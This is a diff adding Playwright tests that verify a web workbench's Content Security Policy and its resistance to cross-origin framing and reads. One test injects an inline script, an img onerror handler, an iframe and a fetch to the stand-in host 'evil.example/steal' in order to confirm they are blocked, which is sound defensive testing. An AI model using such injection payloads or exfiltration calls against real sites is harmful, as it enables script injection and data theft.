@@ -1,0 +1,84 @@
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { SAMPLE, dropFiles, launchBrowser, openWorkbench, serverUrl } from './support/browser';
+import { recordViolations, violations } from './support/violations';
+
+let browser: Browser;
+let context: BrowserContext;
+
+beforeAll(async () => {
+  browser = await launchBrowser();
+});
+afterAll(() => browser.close());
+beforeEach(async () => {
+  context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
+  await recordViolations(context);
+});
+afterEach(() => context.close());
+
+async function useTheWorkbench(page: Page): Promise<void> {
+  await dropFiles(page, [SAMPLE]);
+  await page.waitForSelector('[data-attachment=ready]');
+  await page.keyboard.press('Control+Shift+P');
+  await page.keyboard.type('Settings');
+  await page.keyboard.press('Enter');
+  await page.waitForTimeout(1000);
+}
+
+test('the workbench works without breaking its own policy', async () => {
+  const { page, errors } = await openWorkbench(browser, { context });
+  await useTheWorkbench(page);
+  expect(await violations(page)).toEqual([]);
+  expect(errors).toEqual([]);
+});
+
+test('every script of the page carries the nonce of its response', async () => {
+  const response = await fetch(serverUrl());
+  const nonce = /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1];
+  const scripts = [...(await response.text()).matchAll(/<script\b([^>]*)>/g)].map((match) => match[1] ?? '');
+  expect(scripts.length).toBeGreaterThan(3);
+  for (const attributes of scripts) {
+    expect([attributes, attributes.includes(`nonce="${nonce}"`)]).toEqual([attributes, true]);
+  }
+});
+
+test('an inline script, an event handler and a script from elsewhere do not run', async () => {
+  const { page } = await openWorkbench(browser, { context });
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.ranInline = true';
+    const holder = document.createElement('div');
+    holder.innerHTML =
+      '<img src="data:," onerror="globalThis.ranHandler = true"><iframe src="https://evil.example"></iframe>';
+    document.body.append(script, holder);
+    await fetch('https://evil.example/steal').catch(() => undefined);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    const found = globalThis as unknown as Record<string, unknown>;
+    return [found['ranInline'], found['ranHandler']];
+  });
+  expect(ran).toEqual([undefined, undefined]);
+  const noted = (await violations(page)).join('\n');
+  expect(noted).toContain('script-src-elem inline');
+  expect(noted).toContain('script-src-attr inline');
+  expect(noted).toMatch(/frame-src https:\/\/evil\.example/);
+  expect(noted).toContain('connect-src https://evil.example/steal');
+});
+
+test('another site can neither frame the workbench nor read from it', async () => {
+  const page = await context.newPage();
+  await page.route('http://other.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${serverUrl()}"></iframe>` }),
+  );
+  await page.goto('http://other.example/');
+  await page.waitForTimeout(1000);
+  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
+  expect(await frame?.locator('[data-workbench]').count()).toBe(0);
+  const read = await page.evaluate(
+    (url) =>
+      fetch(`${url}/api/conversations`).then(
+        () => 'read',
+        () => 'refused',
+      ),
+    serverUrl(),
+  );
+  expect(read).toBe('refused');
+});
